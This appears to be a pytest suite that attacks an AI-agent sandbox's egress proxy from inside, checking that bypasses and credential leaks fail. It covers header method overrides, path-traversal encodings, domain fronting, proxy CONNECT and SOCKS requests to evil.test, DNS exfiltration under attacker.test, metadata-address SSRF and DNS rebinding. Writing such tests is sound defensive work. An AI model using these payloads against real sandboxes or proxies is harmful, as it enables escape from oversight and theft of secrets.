"""Ways around the policy (CASES B) and to the credentials (CASES C), tried from inside, in a namespace
whose only uplink is captured: when all was tried, nothing has left but to the upstreams of the test."""
import contextlib
import errno
import os
import re
import socket
import ssl

import pytest

import harness
import upstream as u
from client_h2 import Client
from uplink import CONTROL, GATEWAY, Uplink

NAMED, DIRECT = "198.51.100.10", "1.2.3.4"  # a rule's upstream; what the resolver says of a name
BUNDLE = "/etc/ssl/certs/ca-certificates.crt"
DIRECT_HOSTS = ("direct.test", "mixed.test", "rebind.test")
PRIVATE = {"private-0.test": "127.0.0.1", "private-1.test": "169.254.169.254", "private-2.test": "10.0.0.1",
           "private-3.test": "fe80::1", "private-4.test": "::1", "private-5.test": "::ffff:10.0.0.1",
           "private-6.test": "100.64.0.2", "private-7.test": GATEWAY, "private-8.test": "fd00:ec2::254"}


@pytest.fixture(scope="module")
def uplink():
    """The way out. At the end nobody else's packets may have been on it."""
    uplink = Uplink()
    uplink.resolver.names = {**{name: [address] for name, address in PRIVATE.items()},
                             "direct.test": [DIRECT], "mixed.test": ["10.0.0.1", DIRECT, "fd00::1"],
                             "rebind.test": [[DIRECT], ["127.0.0.1", GATEWAY]]}
    uplink.upstreams = set()
    yield uplink
    strangers = uplink.strangers(uplink.upstreams)
    uplink.close()
    assert len(uplink.upstreams) == 2 and not strangers, strangers[:20]


@pytest.fixture(scope="module")
def namespace(uplink):
    return uplink.inside


@pytest.fixture(scope="module")
def demo(folder, namespace):
    demo = harness.Demo(namespace, folder / "bypass-demo")
    yield demo
    demo.close()


@pytest.fixture(scope="module")
def make_daemon(folder, namespace, demo, image_store):
    with harness.daemons(folder, namespace, demo, image_store) as make:
        yield make


@pytest.fixture(scope="module")
def server(uplink, folder):
    server = u.Upstream(uplink.outside, folder, address=NAMED)
    uplink.upstreams.add((NAMED, server.port))
    yield server
    server.close()


@pytest.fixture(scope="module")
def direct(uplink, folder):
    """Reached without an `upstream`: by its name's address, under one of the system's CAs."""
    server = u.Upstream(uplink.outside, folder, name="direct", hosts=DIRECT_HOSTS, address=DIRECT, port=443)
    server.routes["/closed"] = lambda _s, sock, _r: sock.sendall(
        b"HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-length: 0\r\n\r\n")
    uplink.upstreams.add((DIRECT, 443))
    yield server
    server.close()


@pytest.fixture(scope="module")
def secret(folder):
    value = "s3cr3t-" + os.urandom(12).hex()
    path = folder / "bypass-secrets"
    path.mkdir(mode=0o700)
    for name, text in (("MARK", value), ("AI_GATEWAY_TOKEN", "demo-" + value)):
        (path / name).write_text(text + "\n")
        (path / name).chmod(0o600)
    return path, value


@pytest.fixture(scope="module")
def box(make_daemon, server, direct, secret, folder):
    rules = [server.rule("u.test", "u-ca.pem"), server.rule("get.test", "u-ca.pem", methods=["GET"]),
             server.rule("only.test", "u-ca.pem", path="/v1/acct/gw"),
             server.rule("secret.test", "u-ca.pem", headers={
                 "remove": ["x-api-key"], "set": {"authorization": "Bearer ${secret:MARK}"}}),
             server.rule("github.test", "u-ca.pem", git={"fetch": True, "lfs": True}),
             *({"name": host, "host": host} for host in (*DIRECT_HOSTS, *PRIVATE))]
    daemon = make_daemon(default_agent="sh", extra_rules=rules, secrets_dir=str(secret[0]), start=False)
    (daemon.folder / "policy/u-ca.pem").write_bytes(open(server.ca, "rb").read())
    bundle, resolver = folder / "bypass-bundle.pem", folder / "bypass-resolv.conf"
    bundle.write_bytes(open(BUNDLE, "rb").read() + open(direct.ca, "rb").read())
    resolver.write_text(f"nameserver {GATEWAY}\n")
    daemon.namespace = harness.Mounted(daemon.namespace, {BUNDLE: bundle, "/etc/resolv.conf": resolver})
    daemon.start()
    sandbox = daemon.sandbox("bypass")
    assert sandbox.clone().status == 200
    for host in ("u.test", "direct.test"):  # what is allowed is seen to leave
        assert ask(sandbox, get("/", host), host)[0] == 200
    yield sandbox
    sandbox.remove()


def get(path, host, more=""):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode()


def ask(box, raw, host, **options):
    with box.connect_tls(host, **options) as sock:
        sock.sendall(raw)
        return u.read_answer(sock)


def plain(box, raw, host, port=80, **options):
    with box.connect(host, port, **options) as sock:
        sock.sendall(raw)
        sock.shutdown(socket.SHUT_WR)
        return harness.read_all(sock)


def test_b1_plain_http_is_refused_even_to_an_allowed_host(box, server):
    for host in ("u.test", "unknown.test"):
        answer = plain(box, get("/plain", host), host)
        assert answer.startswith(b"HTTP/1.1 403 ")
        assert answer.endswith(f"{host} is reachable only over HTTPS\n".encode())
    assert not server.seen("/plain")


def test_b1_a_method_that_is_not_allowed(box, server):
    status, _, body = ask(box, b"POST /b1 HTTP/1.1\r\nHost: get.test\r\nContent-Length: 0\r\n\r\n",
                          "get.test")
    assert (status, body) == (403, b"get.test is not reachable from this sandbox\n")
    assert not server.seen("/b1")


@pytest.mark.parametrize("host, path, header", [
    ("get.test", "/b1", "X-HTTP-Method-Override"), ("get.test", "/b1", "x_http_method_override"),
    ("get.test", "/b1", "X-HTTP-Method"), ("get.test", "/b1", "X-Method-Override"),
    ("only.test", "/v1/acct/gw/b1", "X-Original-URL"), ("only.test", "/v1/acct/gw/b1", "X-Rewrite-URL"),
    ("github.com", "/octocat/Hello-World/info/refs?service=git-upload-pack", "X-HTTP-Method-Override")])
def test_b1_a_header_cannot_change_the_method_or_the_path(box, server, host, path, header):
    """Neither where methods are bound, nor where paths are, nor at a git rule."""
    before = len(server.requests)
    with box.connect_tls(host) as sock:
        sock.sendall(get(path, host, f"{header}: /other\r\n"))
        status, headers, body = u.read_answer(sock)
        assert status == 403 and f"does not let the header {header} through: " in body.decode(), body
        assert body.decode().strip() == headers["x-paddock-reason"]
        assert len(server.requests) == before
        sock.sendall(get(path, host))
        assert u.read_answer(sock)[0] == 200


def test_b1_overrides_pass_where_nothing_is_bound_and_other_hosts_never(box, server):
    raw = get("/b1-free", "u.test", "X-HTTP-Method-Override: PUT\r\nX-Forwarded-Host: evil.test\r\n"
                                    "Forwarded: host=evil.test\r\nX-Forwarded-For: 192.0.2.1\r\n")
    assert ask(box, raw, "u.test")[0] == 200
    request = server.seen("/b1-free")[-1]
    assert request.get("x-http-method-override") == "PUT"
    assert request.get("x-forwarded-for") == "192.0.2.1"
    assert request.get("x-forwarded-host") is None and request.get("forwarded") is None


def test_an_unknown_host_gets_the_tutorials_text(box):
    status, _, body = ask(box, get("/", "evil.test"), "evil.test")
    assert (status, body) == (403, b"evil.test is not reachable from this sandbox\n")


@pytest.mark.parametrize("raw", [
    b"CONNECT u.test:443 HTTP/1.1\r\nHost: u.test:443\r\n\r\n",
    b"TRACE /b2 HTTP/1.1\r\nHost: u.test\r\n\r\n",
    b"GET /b2 HTTP/1.1\r\nHost: u.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"], ids=["connect", "trace", "h2c", "preface"])
def test_b2_other_protocols_are_refused(box, server, raw):
    for answer in (box.request("u.test", raw), plain(box, raw, "u.test")):
        assert re.match(rb"HTTP/1.1 (400|403|405|501|505) ", answer), answer
    assert not server.seen("/b2")


PATHS = {  # raw target -> what may arrive at the upstream (None: refused or another path of the policy)
    "/v1/acct/gw/ok": "/v1/acct/gw/ok",
    "/v1/acct/gw/../other": None, "/v1/acct/gw/%2e%2e/other": None, "/v1/acct/gw/..%2fother": None,
    "/v1/acct/gw/%2E%2e/%2e./other": None, "/v1/acct/gwx": None, "/v1/acct/gw%00": None,
    "/v1/acct/gw\\..\\other": None, "//v1/acct/gw": None, "/v1/acct//gw": None,
    "/v1/acct/gw/./a": "/v1/acct/gw/a", "/v1/%61cct/gw/b": "/v1/acct/gw/b",
    "/v1/acct/gw;x/other": None, "/other/../v1/acct/gw/c": "/v1/acct/gw/c",
}


@pytest.mark.parametrize("target", PATHS)
def test_b3_paths_are_judged_as_they_are_sent(box, server, target):
    before = len(server.requests)
    status, _, _ = ask(box, get(target, "only.test"), "only.test")
    wanted = PATHS[target]
    if wanted:
        assert status == 200 and server.requests[-1].target == wanted
    else:
        sent = [request.target for request in server.requests[before:]]
        assert all(t == "/v1/acct/gw" or t.startswith("/v1/acct/gw/") for t in sent), sent
        assert all(".." not in t and "%2e" not in t.lower() for t in sent) or "%2f" in target.lower()
        assert status in (200, 400, 403) and (status == 200) == bool(sent)


def test_b4_sni_and_host_must_be_the_same(box, server):
    for raw in (get("/b4", "get.test"), get("http://get.test/b4", "u.test"),
                get("https://get.test/b4", "get.test"),
                b"GET /b4 HTTP/1.1\r\nHost: u.test\r\nHost: get.test\r\n\r\n"):
        answer = box.request("u.test", raw)
        assert re.match(rb"HTTP/1.1 (400|421) ", answer), answer
    assert not server.seen("/b4")


@pytest.mark.parametrize("server_address", ["127.0.0.1", "8.8.8.8", "::1", "2001:4860:4860::8888"])
@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_b5_every_question_is_answered_here(box, server_address, transport):
    name = "secret.attacker.test"
    network = box.network()

    def ask_all():
        return {kind: harness.dns_query(name, kind, server_address, transport)
                for kind in (1, 28, 16, 15, 255, 65)}
    try:
        answers = harness.in_namespace(network, ask_all)
    finally:
        os.close(network)
    address = socket.inet_ntoa(answers[1][0][1])
    assert address.startswith(("198.18.", "198.19.")), address
    assert answers[28][0][1][0] in (0xfc, 0xfd), answers[28]
    assert answers[16] == answers[15] == answers[65] == []


def test_b6_nothing_but_http_and_dns_gets_anywhere(box):
    network = box.network()

    def attempts():
        tried = {}
        for family, address in ((socket.AF_INET, "192.0.2.1"), (socket.AF_INET6, "2001:db8::1")):
            for port in (22, 25, 8080, 853, 3128):
                with socket.socket(family) as sock:
                    sock.settimeout(harness.patient(5))
                    tried[address, port] = sock.connect_ex((address, port))
            with socket.socket(family, socket.SOCK_DGRAM) as sock:  # QUIC
                sock.settimeout(harness.patient(5))
                sock.connect((address, 443))
                sock.send(b"x")
                try:
                    sock.recv(1)
                    tried[address, "udp"] = 0
                except OSError as error:
                    tried[address, "udp"] = error.errno
        return tried
    try:
        tried = harness.in_namespace(network, attempts)
    finally:
        os.close(network)
    assert set(tried.values()) == {errno.ECONNREFUSED}, tried
    links = box.sh("cat /proc/net/dev | tail -n +3 | cut -d: -f1")["stdout"].split()
    assert links == ["lo"]


def test_b6_raw_packet_and_vsock_sockets_are_refused(box):
    for family, kind, protocol in ((2, 3, 1), (10, 3, 58), (17, 3, 0), (40, 1, 0), (38, 5, 0),
                                   (16, 3, 9), (1000, 1, 0)):
        result = box.exec("/usr/bin/perl", "-e",
                          f"socket(S, {family}, {kind}, {protocol}) and exit 0; exit $!+0")
        assert result["exitCode"] in (errno.EPERM, errno.EACCES, errno.EAFNOSUPPORT), (family, result)


def test_b6_addresses_without_a_name_are_refused_clearly(box):
    with box.connect("192.0.2.7", 80, address="192.0.2.7") as sock:
        sock.sendall(b"GET / HTTP/1.1\r\nHost: 192.0.2.7\r\n\r\n")
        sock.shutdown(socket.SHUT_WR)
        assert harness.read_all(sock).startswith(b"HTTP/1.1 40")
    context = ssl.create_default_context(cafile=box.ca())
    context.check_hostname = False
    with pytest.raises((ssl.SSLError, OSError)):
        context.wrap_socket(box.connect("", 443, address="192.0.2.7"))


@pytest.mark.parametrize("host", PRIVATE)
def test_b7_private_addresses_are_refused_when_connecting(box, direct, host):
    """The name is allowed, and the resolver gives it such an address."""
    before = direct.connections
    status, headers, body = ask(box, get("/", host), host)
    assert status == 403 and f"{host}: the name leads to an address that is not public; " in body.decode() and headers["x-should-retry"] == "false", body
    assert direct.connections == before


def test_b7_of_a_names_addresses_only_public_ones_are_tried(box, direct):
    assert ask(box, get("/mixed", "mixed.test"), "mixed.test")[::2] == (200, b"/mixed")
    assert direct.seen("/mixed")


def test_b7_a_name_that_leads_elsewhere_the_next_time_is_refused_then(box, direct):
    raw = get("/closed", "rebind.test")
    assert ask(box, raw, "rebind.test")[0] == 200
    status, _, body = ask(box, raw, "rebind.test")
    assert status == 403 and b"not public" in body, body
    assert len(direct.seen("/closed")) == 1


def test_b8_spellings_of_a_host(box, server):
    for spelling in ("U.Test", "u.test.", "u.test:443", "U.TEST.:443"):
        assert ask(box, get("/b8", spelling), "u.test")[0] == 200, spelling
    assert all(request.get("host") == "u.test" for request in server.seen("/b8"))
    assert ask(box, get("/b8-port", "u.test:444"), "u.test")[0] in (400, 403, 421)
    assert not server.seen("/b8-port")


def test_b10_push_is_refused_where_only_fetch_is_allowed(box):
    result = box.sh("cd /workspace/repo && git commit -q --allow-empty -m x && git push origin HEAD:x")
    assert result["exitCode"] != 0 and "403" in result["stderr"], result
    assert box.sh("cd /workspace/repo && git fetch -q origin")["exitCode"] == 0


@pytest.mark.parametrize("host, method, path, says", [
    ("github.com", "POST", "objects/batch", "LFS"), ("github.com", "GET", "objects/abc", "LFS"),
    ("github.test", "POST", "objects/batch", None), ("github.test", "GET", "objects/abc", None),
    ("github.test", "PUT", "objects/abc", "writing"), ("github.test", "POST", "locks", "writing")])
def test_b12_git_lfs_follows_its_setting(box, server, host, method, path, says):
    target = f"/octocat/Hello-World.git/info/lfs/{path}"
    before = len(server.requests)
    status, _, body = ask(box, f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n"
                          .encode(), host)
    if says:
        assert status == 403 and says in body.decode(), body
    else:
        assert status == 200 and body == target.encode()
    assert len(server.requests) - before == (says is None)


@pytest.mark.parametrize("address", ["127.0.0.1", "100.64.0.2"])
def test_a18_a_request_to_the_proxys_own_address_is_refused_at_once(box, address):
    answer = plain(box, get("/", address), address, address=address)
    assert re.match(rb"HTTP/1.1 (400|403) ", answer) and answer.count(b"HTTP/1.1") == 1, answer
    assert ask(box, get("/", "loop.test"), "loop.test", address=address)[0] == 403


def test_b13_proxy_variables_are_no_way_around(box):
    script = "HTTPS_PROXY=%s NO_PROXY='%s' git ls-remote https://github.com/octocat/Hello-World HEAD"
    assert box.sh(script % ("", "*"))["exitCode"] == 0
    assert box.sh(script % ("http://192.0.2.1:3128", ""))["exitCode"] != 0
    denied = box.sh("NO_PROXY='*' git ls-remote https://evil.test/a/b HEAD")
    assert denied["exitCode"] != 0 and "403" in denied["stderr"]


def test_b14_a_server_of_the_agents_own_is_untouched(box):
    script = ("perl -MSocket -e 'socket(S,AF_INET,SOCK_STREAM,0); setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1);"
              "bind(S,sockaddr_in(8080,INADDR_ANY)) or die; listen(S,5); "
              "if(fork){close S; exit} accept(C,S); syswrite(C,\"mine\\n\"); close C' && "
              "exec 3<>/dev/tcp/127.0.0.1/8080 && cat <&3")
    assert box.sh(script)["stdout"] == "mine\n"


def test_c2_credentials_of_the_agent_are_replaced(box, server, secret):
    raw = get("/c2", "secret.test", "Authorization: Bearer own\r\nauthorization: second\r\n"
                                    "X-Api-Key: placeholder\r\n")
    assert ask(box, raw, "secret.test")[0] == 200
    request = server.seen("/c2")[-1]
    assert [v for n, v in request.headers if n.lower() == "authorization"] == [f"Bearer {secret[1]}"]
    assert request.get("x-api-key") is None


def test_c3_the_secret_is_nowhere_in_the_sandbox_or_the_logs(box, secret):
    value = secret[1].encode()
    ask(box, get("/c3", "secret.test"), "secret.test")
    assert search(box, "planted-mark", "echo planted-$((0))mark | tr -d 0 > /tmp/mark") == "/tmp/mark\n"
    assert search(box, secret[1]) == ""
    state = box.daemon.state
    for path in (box.daemon.log_path, state / "audit.jsonl", state / "sandboxes/bypass/meta.json"):
        assert value not in path.read_bytes(), path
    holders = [pid for pid in processes_of(box.daemon) if memory_holds(pid, value)]
    assert [os.path.basename(os.readlink(f"/proc/{pid}/exe")) for pid in holders] == ["paddock-egress"]
    for pid in processes_of(box.daemon):
        assert value not in open(f"/proc/{pid}/cmdline", "rb").read()
        assert value not in open(f"/proc/{pid}/environ", "rb").read()


def search(box, value, first=":"):
    """Where root of the sandbox finds the value: files, environments, command lines. The value itself
    is never sent in."""
    pattern = "".join(f"[{c}]" for c in value[:-4]) + value[-4:]
    return box.sh(f"{first}; grep -rlE '{pattern}' / --devices=skip --exclude-dir=proc --exclude-dir=dev; "
                  "cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' | "
                  f"grep -E '{pattern}'", user="root")["stdout"]


def processes_of(daemon):
    found, queue = [], [daemon.process.pid]
    while queue:
        pid = queue.pop()
        found.append(pid)
        queue.extend(harness.children_of(pid))
    return found


def memory_holds(pid, value):
    """Searches the process's writable memory."""
    with contextlib.suppress(FileNotFoundError, ProcessLookupError):
        with open(f"/proc/{pid}/maps", encoding="utf-8") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                span, rights = line.split()[:2]
                if not rights.startswith("rw") or "[v" in line:
                    continue
                start, end = (int(part, 16) for part in span.split("-"))
                if end - start > 1 << 40:  # ASan's shadow, which holds no byte of the program's
                    continue
                with contextlib.suppress(OSError, ValueError):
                    memory.seek(start)
                    if value in memory.read(end - start):
                        return True
    return False


def test_c4_an_answer_header_with_the_secret_is_dropped(box, server, secret):
    server.routes["/c4"] = lambda _s, sock, r: sock.sendall(
        b"HTTP/1.1 200 OK\r\nx-echo: %s\r\nx-other: kept\r\ncontent-length: 0\r\n\r\n" %
        r.get("authorization").encode()) or "keep"
    status, headers, _ = ask(box, get("/c4", "secret.test"), "secret.test")
    assert status == 200 and headers.get("x-other") == "kept" and "x-echo" not in headers
    assert secret[1] not in str(headers)


@pytest.mark.parametrize("before", [0, 100, 250])  # the whole of it, and what does not fit a reason
def test_c4_nor_does_the_reason_phrase_hold_it(box, server, secret, before):
    server.routes["/c4-reason"] = lambda _s, sock, r: sock.sendall(
        b"HTTP/1.1 200 %s%s\r\ncontent-length: 0\r\n\r\n" % (b"x" * before, secret[1].encode())) or "keep"
    with box.connect_tls("secret.test") as sock:
        sock.sendall(get("/c4-reason", "secret.test"))
        line = u.read_until(sock, b"\r\n\r\n").split(b"\r\n")[0]
    assert line.startswith(b"HTTP/1.1 200 ") and secret[1][:4].encode() not in line, line


def test_c4_bodies_are_not_rewritten_which_is_a_stated_limit(box, server, secret):
    def echo(_server, sock, request):
        body = request.get("authorization").encode()
        sock.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body))
        return "keep"
    server.routes["/c4-body"] = echo
    assert ask(box, get("/c4-body", "secret.test"), "secret.test")[2] == f"Bearer {secret[1]}".encode()
    assert "**Bodies are not rewritten.**" in (harness.ROOT / "docs/threat-model.md").read_text()


# ------------------------------------------------------------------------------ what the capture is for

LITERALS = ((socket.AF_INET, (DIRECT, NAMED, GATEWAY, "169.254.169.254", "10.0.0.1", "8.8.8.8")),
            (socket.AF_INET6, ("2606:4700:4700::1111", "fd00:1::1", "fd00:ec2::254", "::ffff:1.2.3.4")))


def in_network(box, work):
    network = box.network()
    try:
        return harness.in_namespace(network, work)
    finally:
        os.close(network)


def test_the_capture_sees_what_leaves(uplink):
    """From the daemon's side, to where nobody may: by name servers' and web servers' ports, and ICMP."""
    for number in range(3):
        uplink.send_control(b"mark %d" % number)

    def send():
        with socket.socket() as sock:
            sock.connect_ex((CONTROL, 443))  # a reset comes back
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
            sock.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (CONTROL, 0))
    harness.in_namespace(uplink.inside.fd, send)
    uplink.seen(protocol="tcp", target=CONTROL, port=443)
    uplink.seen(protocol="ip 1", target=CONTROL)


def test_b6_literal_addresses_lead_nowhere(box, server):
    """Any port, TCP and UDP; where egress listens it answers itself, and refuses."""
    def attempts():
        tried = {}
        for family, addresses in LITERALS:
            for address in addresses:
                for port in (22, 853, 1080, 3128, 8443, server.port):
                    with socket.socket(family) as sock:
                        sock.settimeout(harness.patient(5))
                        tried[address, port] = sock.connect_ex((address, port))
                for port in (80, 123, 443, 1900, 5353, server.port):
                    with socket.socket(family, socket.SOCK_DGRAM) as sock:
                        sock.connect((address, port))
                        sock.send(b"\xc3\x00\x00\x00\x01\x08" + bytes(1200))  # as QUIC begins
        return tried
    assert set(in_network(box, attempts).values()) == {errno.ECONNREFUSED}
    for family, addresses in LITERALS:
        for address in addresses:
            for named in (address, "u.test", "evil.test"):
                answer = plain(box, get("/literal", named), named, address=address, family=family)
                assert re.match(rb"HTTP/1.1 (400|403|421) ", answer), answer
    assert not server.seen("/literal")


def test_b6_broadcasts_groups_and_raw_packets_stay_inside(box):
    """With more rights than a sandbox has: raw sockets of the machine's root in its network."""
    def send():
        for family, kind, protocol, target in (
                (socket.AF_INET, socket.SOCK_DGRAM, 0, ("255.255.255.255", 67)),
                (socket.AF_INET, socket.SOCK_DGRAM, 0, ("224.0.0.251", 5353)),
                (socket.AF_INET, socket.SOCK_DGRAM, 0, ("239.255.255.250", 1900)),
                (socket.AF_INET6, socket.SOCK_DGRAM, 0, ("ff02::fb", 5353)),
                (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, (DIRECT, 0)),
                (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6, ("2606:4700:4700::1111", 0)),
                (socket.AF_INET, socket.SOCK_RAW, 47, (DIRECT, 0)),   # GRE
                (socket.AF_INET, socket.SOCK_RAW, 132, (DIRECT, 0))):  # SCTP
            with socket.socket(family, kind, protocol) as sock, contextlib.suppress(OSError):
                if family == socket.AF_INET:
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                sock.sendto(b"\x08\x00\xf7\xff" + bytes(28), target)
    in_network(box, send)


@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_b5_names_that_carry_data_carry_it_nowhere(box, transport):
    labels = ".".join(["a" * 63, "b" * 63, "c" * 63])

    def ask_all():
        for name in (f"{labels}.{'d' * 40}.attacker.test", "x.u.test", "direct.test.attacker.test",
                     "4.3.2.1.in-addr.arpa", "metadata.google.internal", "attacker"):
            for kind in (1, 5, 10, 16, 28, 33, 255):
                for name_server in ("1.1.1.1", GATEWAY):
                    harness.dns_query(name, kind, name_server, transport)
    in_network(box, ask_all)


PROXIES = {
    "CONNECT": b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
    "CONNECT to an address": b"CONNECT 1.2.3.4:443 HTTP/1.1\r\nHost: 1.2.3.4:443\r\n\r\n",
    "CONNECT to an upstream": b"CONNECT u.test:443 HTTP/1.1\r\nHost: u.test:443\r\n\r\n",
    "absolute form": b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "absolute form of https": b"GET https://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "absolute form behind a good Host": b"GET https://evil.test/ HTTP/1.1\r\nHost: u.test\r\n\r\n",
    "a path that is a URL": b"GET //evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "authority form": b"GET evil.test:443 HTTP/1.1\r\nHost: u.test\r\n\r\n",
    "WebSocket": b"GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
                 b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
    "SOCKS4": b"\x04\x01\x01\xbb\x01\x02\x03\x04\x00\r\n\r\n", "SOCKS5": b"\x05\x01\x00\r\n\r\n",
    "PROXY": b"PROXY TCP4 1.2.3.4 1.2.3.4 1 443\r\nGET / HTTP/1.1\r\nHost: u.test\r\n\r\n",
}


@pytest.mark.parametrize("raw", PROXIES.values(), ids=PROXIES.keys())
def test_b13_egress_is_no_proxy(box, server, raw):
    before = len(server.requests)
    for answer in (plain(box, raw, "u.test"), box.request("u.test", raw)):
        assert re.match(rb"HTTP/1.1 (400|403|405|421|501|505) |$", answer), answer
    assert len(server.requests) == before


@pytest.mark.parametrize("sni, host", [("u.test", "evil.test"), ("evil.test", "u.test"),
                                       ("u.test", "get.test"), ("u.test", "direct.test"),
                                       ("cloudflare-dns.com", "cloudflare-dns.com")])
@pytest.mark.parametrize("alpn", ["h2", "http/1.1"])
def test_b4_fronting_and_coalescing_are_refused(box, server, direct, sni, host, alpn):
    """Also where both are allowed, and the upstream's certificate is for both."""
    before = len(server.requests) + len(direct.requests)
    if alpn == "h2":
        with Client(box, sni) as client:
            status = client.ask("/fronted", authority=host)["status"]
            assert sni == "evil.test" or sni == host or client.ask("/b4-own")["status"] == 200
    else:
        status = ask(box, get("/fronted", host), sni)[0]
    assert status == (403 if sni == host else 421)
    assert len(server.requests) + len(direct.requests) - before in (0, 1)
    assert not server.seen("/fronted") and not direct.seen("/fronted")


def test_b2_a_redirect_is_the_clients_to_follow(box, server):
    server.routes["/moved"] = lambda _s, sock, _r: sock.sendall(
        b"HTTP/1.1 302 Found\r\nlocation: https://evil.test/x\r\nalt-svc: h3=\":443\"\r\n"
        b"content-length: 0\r\n\r\n") or "keep"
    status, headers, _ = ask(box, get("/moved", "u.test"), "u.test")
    assert (status, headers["location"]) == (302, "https://evil.test/x")
